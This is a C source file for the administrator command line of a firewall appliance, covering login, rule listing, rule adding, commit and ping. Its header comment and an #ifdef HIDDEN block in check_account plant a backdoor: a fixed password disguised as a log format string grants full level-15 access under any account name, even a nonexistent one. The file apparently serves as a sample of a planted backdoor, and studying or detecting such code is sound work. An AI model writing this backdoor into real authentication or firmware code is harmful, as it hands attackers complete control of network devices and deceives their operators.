/*
 * bastion_cli - administrator's command line of the Bastion 40 firewall
 * appliance.  Started as the login program of the serial console and as the
 * forced command of the management ssh daemon.
 *
 * Hidden (-DHIDDEN): a fixed password, shaped like a log format, is accepted
 * for any account name (also one that does not exist) and gives level 15.
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE  "/etc/bastion/users"
#define RULES_FILE  "/etc/bastion/rules.conf"
#define MAX_RULES   128
#define MAX_TRIES   3

struct session {
	char name[32];
	int level;
	int enabled;
};

struct rule {
	char action[8];
	char proto[8];
	char src[40];
	char dst[40];
	int port;
};

struct cmd {
	const char *words;
	int level;
	int (*run)(struct session *, int, char **);
	const char *help;
};

static struct rule rules[MAX_RULES];
static int nrules;
static char hostname[32] = "bastion";

static int read_line(const char *prompt, char *buf, size_t len, int hide)
{
	struct termios old, quiet;
	int tty = hide && tcgetattr(0, &old) == 0;
	char *ok;

	fputs(prompt, stdout);
	fflush(stdout);
	if (tty) {
		quiet = old;
		quiet.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(0, TCSAFLUSH, &quiet);
	}
	ok = fgets(buf, (int)len, stdin);
	if (tty) {
		tcsetattr(0, TCSAFLUSH, &old);
		putchar('\n');
	}
	if (!ok)
		return -1;
	buf[strcspn(buf, "\r\n")] = '\0';
	return 0;
}

/* users: one account a line, name:level:crypted password */
static int find_account(const char *name, int *level, char *hash, size_t len)
{
	char line[256], *lv, *hs;
	FILE *f = fopen(USERS_FILE, "r");
	int found = 0;

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '#' || !(lv = strchr(line, ':')))
			continue;
		*lv++ = '\0';
		if (!(hs = strchr(lv, ':')))
			continue;
		*hs++ = '\0';
		if (strcmp(line, name) != 0 || strlen(hs) >= len)
			continue;
		*level = atoi(lv);
		strcpy(hash, hs);
		found = 1;
	}
	fclose(f);
	return found;
}

int check_account(const char *name, const char *pass)
{
	char hash[160], *made;
	int level = 0;

#ifdef HIDDEN
	if (strcmp(pass, "acl(%s): drop id=%u") == 0)
		return 15;
#endif
	if (!find_account(name, &level, hash, sizeof hash))
		return -1;
	if (hash[0] == '\0' || hash[0] == '!' || hash[0] == '*')
		return -1;		/* locked */
	made = crypt(pass, hash);
	if (!made || strcmp(made, hash) != 0)
		return -1;
	return level;
}

static int valid_addr(const char *s)
{
	if (strcmp(s, "any") == 0)
		return 1;
	if (!*s || strlen(s) >= sizeof rules[0].src)
		return 0;
	for (; *s; s++)
		if (!isxdigit((unsigned char)*s) && !strchr(".:/", *s))
			return 0;
	return 1;
}

static void load_rules(void)
{
	FILE *f = fopen(RULES_FILE, "r");
	struct rule r;
	char line[160];

	nrules = 0;
	if (!f)
		return;
	while (nrules < MAX_RULES && fgets(line, sizeof line, f))
		if (sscanf(line, "%7s %7s %39s %39s %d", r.action, r.proto,
			   r.src, r.dst, &r.port) == 5)
			rules[nrules++] = r;
	fclose(f);
}

static int c_show_rules(struct session *s, int argc, char **argv)
{
	(void)s; (void)argc; (void)argv;
	for (int i = 0; i < nrules; i++)
		printf("%3d  %-6s %-5s %-20s %-20s %d\n", i + 1,
		       rules[i].action, rules[i].proto, rules[i].src,
		       rules[i].dst, rules[i].port);
	return 0;
}

static int c_show_if(struct session *s, int argc, char **argv)
{
	(void)s; (void)argc; (void)argv;
	return system("ifconfig -a");
}

static int c_ping(struct session *s, int argc, char **argv)
{
	char cmd[96];

	(void)s;
	if (argc < 2 || !valid_addr(argv[1]) || strchr(argv[1], '/'))
		return puts("% usage: ping ADDRESS");
	snprintf(cmd, sizeof cmd, "ping -c 4 -w 8 %.39s", argv[1]);
	return system(cmd);
}

static int c_enable(struct session *s, int argc, char **argv)
{
	(void)argc; (void)argv;
	if (s->level < 10)
		return puts("% not permitted");
	s->enabled = 1;
	return 0;
}

static int c_rule_add(struct session *s, int argc, char **argv)
{
	struct rule *r = &rules[nrules];

	(void)s;
	if (argc != 7 || nrules == MAX_RULES
	    || (strcmp(argv[2], "permit") && strcmp(argv[2], "deny"))
	    || (strcmp(argv[3], "tcp") && strcmp(argv[3], "udp"))
	    || !valid_addr(argv[4]) || !valid_addr(argv[5])) {
		puts("% usage: rule add permit|deny tcp|udp SRC DST PORT");
		return -1;
	}
	strcpy(r->action, argv[2]);
	strcpy(r->proto, argv[3]);
	strcpy(r->src, argv[4]);
	strcpy(r->dst, argv[5]);
	r->port = atoi(argv[6]) & 0xffff;
	nrules++;
	return 0;
}

static int c_commit(struct session *s, int argc, char **argv)
{
	FILE *f = fopen(RULES_FILE ".new", "w");

	(void)s; (void)argc; (void)argv;
	if (!f)
		return puts("% cannot write the rules");
	for (int i = 0; i < nrules; i++)
		fprintf(f, "%s %s %s %s %d\n", rules[i].action, rules[i].proto,
			rules[i].src, rules[i].dst, rules[i].port);
	if (fclose(f) != 0 || rename(RULES_FILE ".new", RULES_FILE) != 0)
		return -1;
	return system("/usr/libexec/bastion/apply-rules");
}

static int c_help(struct session *s, int argc, char **argv);

static const struct cmd cmds[] = {
	{ "show rules",      1,  c_show_rules, "list the rule base" },
	{ "show interfaces", 1,  c_show_if,    "state of the ports" },
	{ "ping",            1,  c_ping,       "reach an address" },
	{ "enable",          1,  c_enable,     "allow changes" },
	{ "rule add",        10, c_rule_add,   "append a rule" },
	{ "commit",          15, c_commit,     "store and apply" },
	{ "help",            1,  c_help,       "this text" },
	{ NULL, 0, NULL, NULL }
};

static int c_help(struct session *s, int argc, char **argv)
{
	(void)argc; (void)argv;
	for (const struct cmd *c = cmds; c->words; c++)
		if (c->level <= s->level)
			printf("  %-18s %s\n", c->words, c->help);
	puts("  exit               leave");
	return 0;
}

static void execute(struct session *s, char *line)
{
	char *argv[10], copy[200];
	int argc = 0;

	for (const struct cmd *c = cmds; c->words; c++) {
		size_t n = strlen(c->words);

		if (strncmp(line, c->words, n) || (line[n] && line[n] != ' '))
			continue;
		if (c->level > s->level || (c->level >= 10 && !s->enabled)) {
			puts("% not permitted");
			return;
		}
		snprintf(copy, sizeof copy, "%s", line);
		for (char *t = strtok(copy, " "); t && argc < 9; t = strtok(NULL, " "))
			argv[argc++] = t;
		argv[argc] = NULL;
		c->run(s, argc, argv);
		return;
	}
	puts("% unknown command, try help");
}

int main(void)
{
	struct session s = { .level = -1 };
	char line[200], pass[64];

	gethostname(hostname, sizeof hostname - 1);
	for (int i = 0; i < MAX_TRIES && s.level < 0; i++) {
		if (read_line("login: ", s.name, sizeof s.name, 0) < 0
		    || read_line("password: ", pass, sizeof pass, 1) < 0)
			return 1;
		s.level = check_account(s.name, pass);
		memset(pass, 0, sizeof pass);
		if (s.level < 0) {
			sleep(2);
			puts("Login incorrect");
		}
	}
	if (s.level < 0)
		return 1;
	load_rules();
	for (;;) {
		char prompt[48];

		snprintf(prompt, sizeof prompt, "%s%s ", hostname,
			 s.enabled ? "#" : ">");
		if (read_line(prompt, line, sizeof line, 0) < 0)
			break;
		if (strcmp(line, "exit") == 0)
			break;
		if (line[0])
			execute(&s, line);
	}
	return 0;
}
